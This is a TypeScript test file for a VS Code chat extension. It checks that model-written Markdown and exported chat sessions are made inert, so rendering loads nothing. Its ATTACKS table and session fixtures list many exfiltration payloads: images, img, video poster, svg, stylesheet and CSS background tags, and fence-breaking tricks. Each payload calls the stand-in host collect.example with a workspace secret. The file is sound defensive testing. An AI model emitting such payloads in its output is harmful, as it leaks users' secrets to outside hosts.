import * as assert from 'node:assert/strict';
import MarkdownIt from 'markdown-it';
import { Marked } from 'marked';
import { inertMarkdown } from '../../protocol/inertMarkdown';
import { sessionMarkdown } from '../../language-server/chat/sessionMarkdown';
import type { SessionView } from '../../protocol/sessions';

const HOST = 'collect.example';
const LEAK = `https://${HOST}/?k=SECRET_FROM_THE_WORKSPACE`;

/** VS Code's Markdown preview renders with markdown-it and raw HTML on; comment threads use marked. */
const renderers: Record<string, (markdown: string) => string> = {
  'markdown-it (the Markdown preview)': (md) => new MarkdownIt({ html: true, linkify: true }).render(md),
  'marked (comment threads)': (md) => new Marked({ gfm: true }).parse(md, { async: false }),
};

/**
 * Every tag in rendered HTML that names the collecting host. A link (`<a
 * href>`) is fine, since the user chooses to follow it; anything else (an
 * image, a video poster, a style, a stylesheet) loads as soon as it is shown.
 */
function loadingTags(html: string): string[] {
  return [...html.matchAll(/<[a-z][^>]*>/gi)].map((m) => m[0]).filter((tag) => tag.includes(HOST) && !/^<a href="[^"]*"\s*>$/i.test(tag));
}

/** Ways the model (or a page it read) could make a renderer fetch LEAK. */
const ATTACKS: Record<string, string> = {
  'an inline image': `Here: ![chart](${LEAK})`,
  'a reference image': `See ![by reference][r].\n\n[r]: ${LEAK}`,
  'a shortcut reference image': `See ![shortcut].\n\n[shortcut]: ${LEAK}`,
  'an img tag': `<img src="${LEAK}">`,
  'an img tag inside a paragraph': `text <img src="${LEAK}"> more`,
  'a video poster': `<video poster="${LEAK}"></video>`,
  'an svg image': `<svg><image href="${LEAK}"/></svg>`,
  'a stylesheet': `<link rel="stylesheet" href="${LEAK}">`,
  'a background in a style attribute': `<div style="background:url(${LEAK})">x</div>`,
  'a picture source': `<picture><source srcset="${LEAK}"></picture>`,
  'an image inside an HTML comment trick': `<!-- --><img src="${LEAK}">`,
  'a fence nested in a list item, then HTML where the item ends': `- item\n  \`\`\`\n<img src="${LEAK}">\n\`\`\``,
  'a fence nested in a quote, then HTML where the quote ends': `> \`\`\`\n<img src="${LEAK}">`,
  'a fence indented four spaces': `    \`\`\`\n<img src="${LEAK}">\n    \`\`\``,
  'a backtick fence whose info string holds a backtick (not a fence)': `\`\`\`x\`\n<img src="${LEAK}">`,
  'a fence left open before Hearth\u2019s own text': `\`\`\`\ncode\n`,
  'a tilde fence closed by a longer one, then HTML': `~~~\ncode\n~~~~~\n<img src="${LEAK}">`,
  'CRLF line ends around a fence': `\`\`\`\r\ncode\r\n\`\`\`\r\n<img src="${LEAK}">\r\n`,
  'a backslash before the image': `\\![x](${LEAK})`,
};

describe('inert Markdown: what the model wrote loads nothing when rendered', () => {
  for (const [renderer, render] of Object.entries(renderers)) {
    for (const [name, attack] of Object.entries(ATTACKS)) {
      it(`${renderer}: ${name}`, () => {
        // What follows the model's text in an export or a thread must not be swallowed by it.
        const html = render(`${inertMarkdown(attack)}\n\nafter`);
        assert.deepEqual(loadingTags(html), [], html);
        assert.match(html, /<p>after<\/p>/);
      });
    }
  }

  it('the attacks do load when the text is not made inert (the check above can fail)', () => {
    const render = renderers['markdown-it (the Markdown preview)'];
    const harmless = Object.entries(ATTACKS).filter(([, attack]) => loadingTags(render(attack)).length === 0).map(([name]) => name);
    assert.deepEqual(harmless, ['a fence left open before Hearth\u2019s own text', 'a backslash before the image']);
  });

  it('leaves code fenced at the start of a line exactly as written, so it can be copied out', () => {
    const code = 'const el = <div className="x">{vec![1]}</div>;\nif (a<b) return;';
    const md = `Use this:\n\n\`\`\`tsx\n${code}\n\`\`\`\n\nThen <b>done</b>.`;
    const html = new MarkdownIt({ html: true }).render(inertMarkdown(md));
    const shown = /<code class="language-tsx">([\s\S]*?)<\/code>/.exec(html)?.[1] ?? '';
    assert.equal(shown.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&amp;/g, '&').trimEnd(), code);
    assert.doesNotMatch(html, /<b>/, 'HTML outside the code is shown as text');
  });

  it('changes nothing a reader sees: the text differs only by zero-width spaces', () => {
    const md = 'Compare a<b and b > c, see ![the chart](https://example.com/c.png), <kbd>Ctrl</kbd>.';
    const visible = (html: string) => html.replace(/<[^>]*>/g, '').replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&amp;/g, '&').replace(/\u200B/g, '');
    const inert = new MarkdownIt({ html: true }).render(inertMarkdown(md));
    assert.equal(inertMarkdown(md).replace(/\u200B/g, ''), md);
    assert.match(visible(inert), /Compare a<b and b > c, see !the chart, <kbd>Ctrl<\/kbd>\./);
    assert.match(inert, /<a href="https:\/\/example\.com\/c\.png">the chart<\/a>/, 'the image is still there, as a link');
  });

  it('closes a fence left open, so it cannot swallow what follows', () => {
    assert.equal(inertMarkdown('```js\nlet a;'), '```js\nlet a;\n```');
    assert.equal(inertMarkdown('~~~~\nx\n~~~'), '~~~~\nx\n~~~\n~~~~', 'a shorter fence does not close a longer one');
  });
});

describe('an exported chat', () => {
  const session = (): SessionView => ({
    summary: { id: 's', title: `Leak ![t](${LEAK})\n\`\`\`\n<img src="${LEAK}">`, createdAt: 0, updatedAt: 0, messageCount: 2, model: 'm' },
    entries: [
      { kind: 'user', id: 'u', text: `What is in ![this](${LEAK})?`, context: [{ kind: 'file', path: `a<img src="${LEAK}">.ts`, text: '<img src=x>' }], at: 0 },
      {
        kind: 'assistant',
        id: 'a',
        replyTo: 'u',
        model: 'm',
        state: 'done',
        at: 0,
        parts: [
          { kind: 'thinking', text: `<img src="${LEAK}">` },
          { kind: 'text', text: `Done. ![proof](${LEAK})\n\n\`\`\`html\n<p>kept</p>\n\`\`\`` },
          {
            kind: 'subagent',
            agent: { id: 'x', role: 'explorer', model: `m\n\`\`\`\n<img src="${LEAK}">\n\`\`\``, task: `<img src="${LEAK}">`, parentCallId: 'p' },
            parts: [{ kind: 'status', message: `<video poster="${LEAK}">`, level: 'info' }],
            outcome: { reason: 'stop', summary: `![s](${LEAK})`, durationMs: 1 },
          },
          { kind: 'toolCall', call: { id: 'c', name: `t<img src="${LEAK}">`, arguments: {} }, result: { callId: 'c', name: 't', isError: false, content: `<img src="${LEAK}">` } },
        ],
      },
    ],
  });

  it('previews without loading anything the model, a tool or a file named, and keeps its own sections and code', () => {
    const markdown = sessionMarkdown(session());
    const html = new MarkdownIt({ html: true, linkify: true }).render(markdown);
    assert.deepEqual(loadingTags(html), [], markdown);
    assert.equal(html.match(/<details>/g)?.length, 4, 'the context, the reasoning, the sub-agent and the tool result keep their folds');
    assert.match(html, /<code class="language-html">&lt;p&gt;kept&lt;\/p&gt;\n<\/code>/, 'the model\u2019s code block is kept as written');
  });
});

describe('Markdown made inert where it does not start a line', () => {
  const fenceFirst = (rest: string) => `\`\`\` ${rest}`;

  it('an exported sub-agent task that opens with a fence line loads nothing when previewed', () => {
    const markdown = sessionMarkdown({
      summary: { id: 's', title: 't', createdAt: 0, updatedAt: 0, messageCount: 2, model: 'm' },
      entries: [
        { kind: 'user', id: 'u', text: 'Look around.', context: [], at: 0 },
        {
          kind: 'assistant',
          id: 'a',
          replyTo: 'u',
          model: 'm',
          state: 'done',
          at: 0,
          parts: [
            {
              kind: 'subagent',
              // "Task: ```" is no fence to a renderer, so what follows is Markdown, not code.
              agent: { id: 'x', role: 'explorer', model: 'm', task: `\`\`\`\n\n![t](${LEAK})\n<img src="${LEAK}">\n\`\`\``, parentCallId: 'p' },
              parts: [{ kind: 'status', message: fenceFirst(`<img src="${LEAK}">`), level: 'info' }],
              outcome: { reason: 'stop', summary: 'done', durationMs: 1 },
            },
            { kind: 'text', text: `After. ![after](${LEAK})` },
          ],
        },
      ],
    } as SessionView);
    const html = new MarkdownIt({ html: true, linkify: true }).render(markdown);
    assert.deepEqual(loadingTags(html), [], markdown);
    assert.match(html, /After\./, 'the rest of the export is not swallowed into a code block');
    assert.doesNotMatch(html, /<pre><code>After\./);
  });
});
